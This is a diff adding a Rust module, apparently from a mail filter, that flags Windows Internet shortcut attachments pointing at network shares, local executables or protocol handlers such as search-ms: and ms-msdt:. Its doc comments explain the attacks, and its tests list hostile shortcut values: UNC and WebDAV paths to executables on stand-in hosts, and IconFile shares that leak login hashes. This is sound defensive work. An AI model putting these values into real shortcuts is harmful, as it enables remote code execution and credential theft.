@@ -1,0 +1,225 @@
+//! Internet shortcuts (`.url`, `.website`) that open something other than a web page.
+//!
+//! A shortcut is a small INI file that Windows opens with a double click. Pointed at a
+//! network share (`URL=file://host/share/invoice.exe`, `\\host@SSL\DavWWWRoot\x.exe`)
+//! it runs a program the mail never carried, past every name, content and clamd check;
+//! pointed at a Windows protocol handler (`search-ms:`, `ms-msdt:`) it opens the hole
+//! that handler has. An `IconFile` on a share leaks the reader's Windows login hash the
+//! moment Explorer shows the file, before anything is opened. Shortcuts that mail
+//! clients made to share a web page (the training corpus has one, a 2002 ham) point at
+//! `http:` and stay unflagged.
+
+/// Bytes of a shortcut read: the ones Windows writes are a few hundred bytes, and
+/// Windows itself stops reading an INI file long before a megabyte.
+const MAX_READ: usize = 64 * 1024;
+
+/// Declared types shortcuts are sent as.
+const SHORTCUT_TYPES: [&str; 4] = [
+    "application/internet-shortcut",
+    "application/x-url",
+    "application/x-mswinurl",
+    "wwwserver/redirection",
+];
+
+/// Schemes of a web page, a mail or a call: what a shortcut to share a link holds.
+const WEB_SCHEMES: [&str; 8] = [
+    "http", "https", "ftp", "mailto", "news", "nntp", "snews", "tel",
+];
+
+/// Whether the attachment is an Internet shortcut: by the extension of a name (as the name
+/// checks read it), the declared type, or content opening with the `[InternetShortcut]`
+/// section (or its class id) that Windows reads whatever the file is called.
+pub(super) fn is_shortcut(exts: &[Option<String>], content_type: &str, data: &[u8]) -> bool {
+    let named = exts
+        .iter()
+        .any(|e| matches!(e.as_deref(), Some("url" | "website")));
+    if named || SHORTCUT_TYPES.contains(&content_type) {
+        return true;
+    }
+    let head = text_of(&data[..data.len().min(4096)]).to_ascii_lowercase();
+    let start = head.trim_start_matches(['\u{feff}', ' ', '\t', '\r', '\n']);
+    start.starts_with('[') && (head.contains("[internetshortcut]") || head.contains("[{000214a0-"))
+}
+
+/// Whether a shortcut opens a local or network file or a non-web handler (`URL=`,
+/// `BASEURL=`), or shows an icon from a network share (`IconFile=`). Every section is
+/// read: Windows reads `[InternetShortcut]`, and a harmless shortcut holds no such
+/// target anywhere.
+pub(super) fn opens_a_file(data: &[u8]) -> bool {
+    let text = text_of(&data[..data.len().min(MAX_READ)]);
+    text.lines().any(|line| {
+        let Some((key, value)) = line.split_once('=') else {
+            return false;
+        };
+        let value = unquoted(value.trim());
+        match key.trim().to_ascii_lowercase().as_str() {
+            "url" | "baseurl" => leaves_the_web(value),
+            "iconfile" => on_a_share(value),
+            _ => false,
+        }
+    })
+}
+
+/// The file's text: UTF-16 when it starts with a byte-order mark (Windows reads such INI
+/// files as Unicode), else its bytes as UTF-8 with stray bytes replaced.
+fn text_of(data: &[u8]) -> String {
+    let utf16 = |rest: &[u8], unit: fn([u8; 2]) -> u16| {
+        let units: Vec<u16> = rest
+            .chunks_exact(2)
+            .map(|pair| unit([pair[0], pair[1]]))
+            .collect();
+        String::from_utf16_lossy(&units)
+    };
+    match data {
+        [0xFF, 0xFE, rest @ ..] => utf16(rest, u16::from_le_bytes),
+        [0xFE, 0xFF, rest @ ..] => utf16(rest, u16::from_be_bytes),
+        _ => String::from_utf8_lossy(data).into_owned(),
+    }
+}
+
+/// A value without the quotes around it, as Windows' INI reader gives it.
+fn unquoted(value: &str) -> &str {
+    ['"', '\'']
+        .iter()
+        .find_map(|q| value.strip_prefix(*q)?.strip_suffix(*q))
+        .unwrap_or(value)
+}
+
+/// Whether a shortcut's target is not a web page, a mail or a call: a UNC path (`\\host`,
+/// also written `//host`), a drive path (`C:\`), a path with no scheme, or any other scheme
+/// (`file:`, `search-ms:`, `ms-msdt:`, `javascript:`). A bare host (`www.example.com`),
+/// which Windows completes to `http:`, is a web page.
+fn leaves_the_web(target: &str) -> bool {
+    let target = target.trim_start_matches(|c: char| c.is_whitespace() || c.is_control());
+    if target.is_empty() {
+        return false;
+    }
+    if is_unc(target) {
+        return true;
+    }
+    match scheme_of(target) {
+        Some(scheme) => !WEB_SCHEMES.contains(&scheme.as_str()),
+        None => target.contains('\\'),
+    }
+}
+
+/// Whether a path is on another machine: a UNC path, or a `file:` URL naming a host other
+/// than this one (`file://host/share`; `file:///C:/` and `file://localhost/` are local).
+fn on_a_share(path: &str) -> bool {
+    let path = path.trim_start_matches(|c: char| c.is_whitespace() || c.is_control());
+    if is_unc(path) {
+        return true;
+    }
+    if scheme_of(path).as_deref() != Some("file") {
+        return false;
+    }
+    let after = &path["file:".len()..];
+    let Some(rest) = after
+        .strip_prefix("//")
+        .or_else(|| after.strip_prefix("\\\\"))
+    else {
+        return false;
+    };
+    let host = rest.split(['/', '\\']).next().unwrap_or_default();
+    !host.is_empty() && !host.eq_ignore_ascii_case("localhost")
+}
+
+/// Two slashes of either kind in front: Windows opens `//host/share` as it opens
+/// `\\host\share`.
+fn is_unc(path: &str) -> bool {
+    let mut chars = path.chars();
+    matches!(
+        (chars.next(), chars.next()),
+        (Some('\\' | '/'), Some('\\' | '/'))
+    )
+}
+
+/// The scheme of a URL, lower-case: letters, digits, `+`, `-`, `.` before the first `:`,
+/// starting with a letter (a drive letter reads as a one-letter scheme).
+fn scheme_of(target: &str) -> Option<String> {
+    let (scheme, _) = target.split_once(':')?;
+    let mut chars = scheme.chars();
+    let first = chars.next()?;
+    let valid = first.is_ascii_alphabetic()
+        && chars.all(|c| c.is_ascii_alphanumeric() || matches!(c, '+' | '-' | '.'));
+    valid.then(|| scheme.to_ascii_lowercase())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn shortcut(body: &str) -> Vec<u8> {
+        format!("[InternetShortcut]\r\n{body}\r\n").into_bytes()
+    }
+
+    #[test]
+    fn shortcuts_are_known_by_name_type_or_content() {
+        let none: [Option<String>; 0] = [];
+        assert!(is_shortcut(&[Some("url".to_string())], "", b""));
+        assert!(is_shortcut(&[Some("website".to_string())], "", b""));
+        assert!(is_shortcut(&none, "application/x-mswinurl", b""));
+        assert!(is_shortcut(&none, "", b"\r\n[InternetShortcut]\r\nURL=x"));
+        assert!(is_shortcut(
+            &none,
+            "",
+            b"[DEFAULT]\nBASEURL=x\n[InternetShortcut]"
+        ));
+        assert!(!is_shortcut(
+            &[Some("txt".to_string())],
+            "text/plain",
+            b"URL=x"
+        ));
+        assert!(!is_shortcut(&none, "", b"[section]\nkey=value"));
+    }
+
+    /// Links a mail client shares are web pages; a share, a file, a drive path or a
+    /// Windows handler is not.
+    #[test]
+    fn targets_off_the_web_are_flagged() {
+        for harmless in [
+            "URL=http://www.english.upenn.edu/~afilreis/50s/schleslib.html",
+            "URL=https://example.test/report?id=7",
+            "url = \"HTTPS://example.test/\"",
+            "URL=ftp://ftp.example.test/pub/",
+            "URL=mailto:someone@example.test",
+            "URL=www.example.test",
+            "IconFile=http://example.test/favicon.ico",
+            "IconFile=C:\\Windows\\System32\\shell32.dll",
+            "IconFile=file:///C:/Windows/System32/shell32.dll",
+            "Modified=E0824ED43364C201DE",
+        ] {
+            assert!(!opens_a_file(&shortcut(harmless)), "{harmless}");
+        }
+        for hostile in [
+            "URL=file://203.0.113.7/share/invoice.exe",
+            "URL=file:///C:/Windows/System32/calc.exe",
+            "URL=\\\\evil.test@SSL\\DavWWWRoot\\invoice.exe",
+            "URL=//evil.test/share/x.exe",
+            "URL=C:\\Users\\Public\\x.exe",
+            "URL=search-ms:query=invoice&crumb=location:\\\\evil.test@80\\x",
+            "URL=ms-msdt:/id PCWDiagnostic",
+            "URL = 'javascript:alert(1)'",
+            "  URL=\t FILE://evil.test/x.hta",
+            "BASEURL=file://evil.test/x",
+            "IconFile=\\\\203.0.113.7\\icons\\a.ico",
+            "IconFile=file://evil.test/icons/a.ico",
+        ] {
+            assert!(opens_a_file(&shortcut(hostile)), "{hostile}");
+        }
+    }
+
+    /// Windows reads a shortcut saved as UTF-16 as well as one in ANSI.
+    #[test]
+    fn utf16_shortcuts_are_read() {
+        let text = "[InternetShortcut]\r\nURL=file://evil.test/x.exe\r\n";
+        let mut le = vec![0xFF, 0xFE];
+        le.extend(text.encode_utf16().flat_map(u16::to_le_bytes));
+        let mut be = vec![0xFE, 0xFF];
+        be.extend(text.encode_utf16().flat_map(u16::to_be_bytes));
+        for data in [le, be] {
+            assert!(is_shortcut(&[], "", &data));
+            assert!(opens_a_file(&data));
+        }
+    }
+}
